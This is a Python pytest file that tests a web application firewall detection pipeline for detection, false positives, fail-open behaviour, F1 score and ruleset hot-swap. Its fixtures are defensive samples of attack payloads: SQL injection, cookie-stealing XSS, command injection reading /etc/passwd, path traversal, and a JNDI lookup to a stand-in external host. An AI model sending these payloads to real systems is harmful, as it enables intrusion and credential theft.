"""End-to-end pipeline: requests → TPU-path engine → confirm → verdicts.

The detection-quality gate in miniature: attack corpus must be detected,
benign corpus must (mostly) pass, streaming/monitoring/fail-open contracts
hold.
"""

import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.normalize import Request
from ingress_plus_tpu.utils.corpus import f1_score, generate_corpus


@pytest.fixture(scope="module")
def ruleset():
    return compile_ruleset(load_bundled_rules())


@pytest.fixture(scope="module")
def pipeline(ruleset):
    return DetectionPipeline(ruleset, mode="block")


ATTACKS = [
    ("sqli", Request(uri="/search?q=1%27+UNION+SELECT+password+FROM+users--")),
    ("sqli", Request(uri="/item?id=1+OR+1%3D1")),
    ("xss", Request(uri="/p?x=%3Cscript%3Ealert(document.cookie)%3C/script%3E")),
    ("xss", Request(method="POST", uri="/comment",
                    body=b"text=<img src=x onerror=alert(1)>")),
    ("rce", Request(uri="/ping?host=8.8.8.8%3Bcat+/etc/passwd")),
    ("lfi", Request(uri="/download?file=../../../etc/passwd")),
    ("java", Request(uri="/x", headers={"user-agent": "${jndi:ldap://e.com/a}"})),
]

BENIGN = [
    Request(uri="/products?page=2&sort=price"),
    Request(uri="/search?q=red+shoes"),
    Request(method="POST", uri="/api/v1/users",
            body=b'{"name": "Alice", "email": "a@example.com"}'),
    Request(uri="/blog/2026/07/tpu-waf"),
    Request(uri="/search?q=o%27brien"),  # benign apostrophe
]


def test_attacks_detected(pipeline):
    for cls, req in ATTACKS:
        v = pipeline.detect([req])[0]
        assert v.attack, "missed %s: %s" % (cls, req.uri)
        assert cls in v.classes, (cls, v.classes, v.rule_ids)
        assert v.blocked


def test_benign_passes(pipeline):
    for req in BENIGN:
        v = pipeline.detect([req])[0]
        assert not v.blocked, "false positive on %s: rules %s" % (
            req.uri, v.rule_ids)


def test_batch_mixed(pipeline):
    reqs = [r for _, r in ATTACKS] + BENIGN
    verdicts = pipeline.detect(reqs)
    assert len(verdicts) == len(reqs)
    assert all(v.attack for v in verdicts[: len(ATTACKS)])
    assert not any(v.blocked for v in verdicts[len(ATTACKS):])


def test_monitoring_mode_never_blocks(ruleset):
    p = DetectionPipeline(ruleset, mode="monitoring")
    v = p.detect([ATTACKS[0][1]])[0]
    assert v.attack and not v.blocked


def test_fail_open_on_engine_error(ruleset):
    p = DetectionPipeline(ruleset, mode="block", fail_open=True)
    raise_ = lambda *a, **k: (_ for _ in ()).throw(RuntimeError("tpu gone"))
    p.engine.detect = p.engine.detect_device = raise_
    p.engine.detect_device_multi = raise_   # the fused serve-path entry
    v = p.detect([ATTACKS[0][1]])[0]
    assert not v.blocked and v.fail_open
    assert p.stats.fail_open == 1


def test_corpus_f1(pipeline):
    corpus = generate_corpus(n=400, attack_fraction=0.3, seed=7)
    verdicts = pipeline.detect([lr.request for lr in corpus])
    tp = fp = fn = 0
    missed, fps = [], []
    for lr, v in zip(corpus, verdicts):
        if lr.is_attack and v.attack:
            tp += 1
        elif lr.is_attack and not v.attack:
            fn += 1
            missed.append((lr.attack_class, lr.request.uri, lr.request.body))
        elif not lr.is_attack and v.attack:
            fp += 1
            fps.append((lr.request.uri, v.rule_ids))
    f1 = f1_score(tp, fp, fn)
    assert f1 >= 0.95, (
        "F1 %.3f  tp=%d fp=%d fn=%d\nmissed: %r\nfps: %r"
        % (f1, tp, fp, fn, missed[:8], fps[:8]))


def test_hot_swap_ruleset(ruleset, pipeline):
    from ingress_plus_tpu.compiler.seclang import parse_seclang

    small = compile_ruleset(parse_seclang(
        'SecRule ARGS "@rx marker123" "id:1,phase:2,block,severity:CRITICAL"'))
    p = DetectionPipeline(ruleset, mode="block")
    p.swap_ruleset(small)
    v = p.detect([Request(uri="/x?a=marker123")])[0]
    assert v.attack
    v = p.detect([ATTACKS[0][1]])[0]
    assert not v.attack  # old rules gone
    p.swap_ruleset(ruleset)
    v = p.detect([ATTACKS[0][1]])[0]
    assert v.attack


def test_verdicts_across_tiers_and_hot_swap(ruleset):
    """The served lowering (``scan_impl="auto"``) through
    ``DetectionPipeline.detect`` over requests whose rows land in every
    L tier, a truncated oversized row among them: every verdict equals
    the one the plain reference lowering (``take``) gives, and — for
    the rows scanned whole — the confirm-only CPU walk's; before and
    after a hot swap onto a fresh generation of the pack."""
    reqs = [lr.request for lr in generate_corpus(n=40, seed=13)]
    hdr = {"host": "shop.example", "user-agent": "Mozilla/5.0",
           "accept": "*/*", "content-type": "text/plain"}
    reqs.append(Request(uri="/big?q=" + "A" * 600 + "+union+select+1",
                        headers=hdr))
    reqs.append(Request(uri="/mid?q=" + "D" * 380 + "+or+1%3D1",
                        headers=hdr))
    reqs.append(Request(method="POST", uri="/huge", headers=hdr,
                        body=b"B" * 3000 + b"<script>x</script>"))
    reqs.append(Request(method="POST", uri="/over", headers=hdr,
                        body=b"C" * 20000
                        + b" 1 union select password from users"))

    def vt(v):
        assert not v.fail_open
        return (v.attack, v.blocked, tuple(sorted(v.rule_ids)), v.score)

    p = DetectionPipeline(ruleset, mode="block", fail_open=False)
    ref = DetectionPipeline(ruleset, mode="block", fail_open=False,
                            scan_impl="take")
    assert (p.engine.scan_impl, ref.engine.scan_impl) == ("pair", "take")
    want = [vt(v) for v in ref.detect(reqs)]
    assert any(w[0] for w in want) and not all(w[0] for w in want)
    # the oversized row's tail lies past the scanned 16,384 bytes
    assert [vt(v) for v in p.detect_cpu_only(reqs[:-1])] == want[:-1]
    assert [vt(v) for v in p.detect(reqs)] == want
    assert all(p.stats.bucket_rows.get(L, 0) > 0 for L in p.L_BUCKETS), \
        p.stats.bucket_rows
    launches = p.engine.device_launches
    assert launches > 0
    p.swap_ruleset(ruleset)
    assert p.engine.scan_impl == "pair"
    assert [vt(v) for v in p.detect(reqs)] == want
    assert p.engine.device_launches > launches
